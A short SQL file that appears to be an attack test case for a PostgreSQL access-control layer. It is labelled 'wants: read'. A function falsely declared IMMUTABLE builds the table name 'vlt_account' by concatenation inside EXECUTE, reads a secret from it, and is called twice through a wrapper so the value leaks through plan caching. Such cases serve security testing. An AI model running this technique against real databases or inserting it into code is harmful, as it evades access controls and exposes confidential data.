-- Calls a function twice whose plan has the value in it since the first time.
-- wants: read
-- attack:
CREATE FUNCTION peek() RETURNS text LANGUAGE plpgsql IMMUTABLE AS $f$
DECLARE found text; BEGIN EXECUTE 'SELECT secret FROM vlt_' || 'account LIMIT 1' INTO found; RETURN found; END
$f$;
CREATE FUNCTION tell() RETURNS text LANGUAGE plpgsql AS $f$ BEGIN RETURN peek(); END $f$;
SELECT tell();
SELECT tell();
